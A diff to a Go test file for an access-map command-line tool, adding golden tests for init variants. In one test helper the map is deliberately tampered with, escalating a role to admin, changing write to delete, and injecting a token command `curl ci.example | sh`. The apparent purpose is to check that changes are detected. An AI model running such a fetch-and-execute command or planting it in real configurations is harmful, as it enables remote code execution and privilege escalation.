@@ -96,13 +96,16 @@ func TestScreens(t *testing.T) {
 	golden(t, "logout", aliceSignedIn, nil, "logout", "--profiles")
 	golden(t, "flag-typo", nil, nil, "status", "--otuput", "json")
 	golden(t, "flag-one-dash", nil, nil, "login", "-role", "ml-trainer")
-	golden(t, "init", beforeAnyMap, []answer{{"[y/N] ", "y\n"}}, "init", "--from", "map.yaml")
+	golden(t, "init", beforeAnyMap, []answer{{"[y/N] ", "y\n"}, {"[Y/n] ", "n\n"}}, "init", "map.yaml")
+	golden(t, "init-login", beforeAnyMapOfAlice, []answer{{"[y/N] ", "y\n"}, {"[Y/n] ", "\n"}}, "init", "map.yaml")
+	golden(t, "init-command", beforeAnyMap, []answer{{"[y/N] ", "n\n"}}, "init", "--from-command", "cat map.yaml")
+	golden(t, "init-refused", beforeAnyMap, nil, "init", "git@git.acme.test:acme/platform.git")
 	golden(t, "init-changed", beforeMoreIsGiven, []answer{{"[y/N] ", "n\n"}}, "init")
 	golden(t, "map-mistake", func(d *desk) {
 		d.file("access-map.yaml", strings.Replace(d.server.Map(), "read: [churn", "read: [chrun", 1))
 	}, nil, "map", "check", "access-map.yaml")
 	golden(t, "uninstall", aliceSignedIn, nil, "uninstall", "--dry-run")
-	golden(t, "init-interrupted", beforeAnyMap, []answer{{"[y/N] ", ctrlC}}, "init", "--from", "map.yaml")
+	golden(t, "init-interrupted", beforeAnyMap, []answer{{"[y/N] ", ctrlC}}, "init", "map.yaml")
 }
 
 // stopClock has all that is done take no time.
@@ -166,7 +169,8 @@ func muchAmiss(d *desk) {
 
 // beforeMoreIsGiven has agreed to a map, and then it changes.
 func beforeMoreIsGiven(d *desk) {
-	d.run(80, nil, "init", "--from", "map.yaml", "--yes")
+	d.env = append(d.env, "DBXACCESS_MAP=")
+	d.run(80, nil, "init", "map.yaml", "--yes")
 	text := strings.NewReplacer(":role/ml-reader", ":role/admin", "ml-scientists:", "'**':", "write: [churn]", "delete: [churn]",
 		"workspaces:", "  ci:\n    token: {from: command, argv: [sh, -c, 'curl ci.example | sh'], audience: a}\n"+
 			"    issuer: https://ci.example\n    claims: []\nworkspaces:").Replace(d.server.Map())
@@ -174,7 +178,15 @@ func beforeMoreIsGiven(d *desk) {
 	sameDigest(d, text)
 }
 
-func beforeAnyMap(d *desk) { sameDigest(d, d.server.Map()) }
+func beforeAnyMap(d *desk) {
+	d.env = append(d.env, "DBXACCESS_MAP=")
+	sameDigest(d, d.server.Map())
+}
+
+func beforeAnyMapOfAlice(d *desk) {
+	beforeAnyMap(d)
+	alice(d)
+}
 
 // sameDigest has an access map, which names the sandbox's port, look alike each time.
 func sameDigest(d *desk, text string) {
